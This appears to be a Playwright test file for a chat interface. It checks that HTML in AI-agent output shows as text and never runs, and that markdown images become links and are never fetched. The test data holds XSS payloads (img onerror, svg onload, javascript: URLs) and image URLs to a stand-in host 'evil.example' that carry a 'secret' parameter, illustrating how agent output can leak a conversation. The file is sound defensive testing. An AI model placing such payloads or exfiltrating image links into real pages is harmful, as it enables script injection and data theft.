"""Agent-produced text is untrusted: HTML in it shows as text and runs nothing,
whether it streams in live, comes back from history, or goes through Markdown."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from .chat import ChatPage

pytestmark = [pytest.mark.browser, pytest.mark.e2e]

ATTACK = '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script>'


def assert_nothing_ran(chat: ChatPage) -> None:
    assert chat.page.evaluate("() => window.__pwned") is None
    assert chat.page.locator("#transcript img, #conversations img").count() == 0
    assert chat.page.locator("#transcript script, #conversations script").count() == 0


def test_html_in_an_agent_message_is_shown_as_text_and_runs_nothing(chat: ChatPage):
    chat.open()
    chat.send(ATTACK)

    # The demo agent finds no ticker and quotes the query back in its question.
    question = chat.page.locator("#transcript > .question .question-text")
    expect(question).to_contain_text(f"I could not find one in “{ATTACK}”")
    expect(chat.page.locator("#transcript > .turn-user")).to_have_text(ATTACK)
    expect(chat.page.locator("#conversations .conv-title")).to_have_text(ATTACK)
    expect(chat.page.locator(".composer-hint")).to_contain_text(ATTACK)
    chat.wait_task("waiting")
    assert_nothing_ran(chat)

    # Answer with more of the same: the second question quotes it too.
    chat.send('<svg onload="window.__pwned=3"></svg>')
    expect(chat.page.locator("#transcript > .question")).to_have_count(2)
    expect(chat.page.locator("#transcript > .question .question-text").last).to_contain_text('<svg onload="window.__pwned=3"></svg>')
    chat.wait_task("waiting")
    assert_nothing_ran(chat)
    assert chat.page.locator("#transcript svg").count() == 0

    # Rebuilt from history, it is still only text.
    chat.reload()
    expect(question.first).to_contain_text(ATTACK)
    chat.wait_task("waiting")
    assert_nothing_ran(chat)


MARKDOWN_JS = """
async (source) => {
  const { renderMarkdown } = await import('/static/chat/markdown.js');
  const box = document.createElement('div');
  box.append(renderMarkdown(source));
  document.body.append(box);
  await new Promise((resolve) => setTimeout(resolve, 50));  // let an injected handler fire, if any
  const result = {
    html: box.innerHTML,
    text: box.textContent,
    tags: [...box.querySelectorAll('*')].map((n) => n.tagName.toLowerCase()),
    hrefs: [...box.querySelectorAll('a')].map((a) => a.getAttribute('href')),
    srcs: [...box.querySelectorAll('[src]')].map((n) => n.getAttribute('src')),
    rels: [...box.querySelectorAll('a')].map((a) => a.getAttribute('rel')),
    handlers: [...box.querySelectorAll('*')].flatMap((n) => [...n.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
    pwned: window.__pwned ?? null,
  };
  box.remove();
  return result;
}
"""


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        (ATTACK, '<img src=x onerror="window.__pwned=1">'),
        ("Inline <img src=x onerror=window.__pwned=4> and <b onmouseover=window.__pwned=5>b</b>", "<img src=x onerror"),
        ("<iframe src=javascript:window.__pwned=6></iframe>", "<iframe src=javascript:"),
        ("<a href=\"javascript:window.__pwned=9\">a</a> <details open ontoggle=window.__pwned=10>", "<details open"),
        ("[click](javascript:window.__pwned=7) and ![pic](javascript:window.__pwned=8)", "click"),
    ],
)
def test_markdown_renderer_never_lets_agent_text_run_script(chat: ChatPage, source: str, shown: str):
    chat.open()
    result = chat.page.evaluate(MARKDOWN_JS, source)
    assert result["pwned"] is None
    assert result["handlers"] == []
    assert not {"script", "iframe", "details", "svg"} & set(result["tags"]), result["html"]
    assert all(not (url or "").lower().startswith("javascript:") for url in result["hrefs"] + result["srcs"])
    assert shown in result["text"]  # raw HTML is displayed as text


def test_markdown_renderer_keeps_ordinary_markdown(chat: ChatPage):
    chat.open()
    source = "**Bold** and _em_, `code`, a [link](https://example.org).\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- one\n- two"
    result = chat.page.evaluate(MARKDOWN_JS, source)
    for tag in ("strong", "em", "code", "a", "table", "th", "td", "ul", "li"):
        assert tag in result["tags"], tag
    assert result["hrefs"] == ["https://example.org"]
    assert result["rels"] == ["noopener noreferrer nofollow"]
    assert result["text"].startswith("Bold and em, code, a link.")


@pytest.mark.parametrize(
    ("source", "href", "label"),
    [
        ("![chart](https://evil.example/p.gif?c=secret)", "https://evil.example/p.gif?c=secret", "Image: chart"),
        ('![](//evil.example/p.gif "title")', "//evil.example/p.gif", "Image: //evil.example/p.gif"),
        ("![ref][r]\n\n[r]: http://evil.example/r.png", "http://evil.example/r.png", "Image: ref"),
        ("![**bold** alt](/static/chat/favicon.svg)", "/static/chat/favicon.svg", "Image: bold alt"),
        ("![x](data:image/png;base64,iVBORw0KGgo=)", None, "Image: x"),  # DOMPurify drops a data: href
    ],
)
def test_markdown_images_are_links_never_fetched(chat: ChatPage, source: str, href: str | None, label: str):
    """A browser fetches an image with no click: its URL could carry the conversation away."""
    chat.open()
    result = chat.page.evaluate(MARKDOWN_JS, source)
    assert "img" not in result["tags"] and result["srcs"] == [], result["html"]
    assert result["hrefs"] == [href]
    assert label in result["text"]
    assert result["rels"] == ["noopener noreferrer nofollow"]
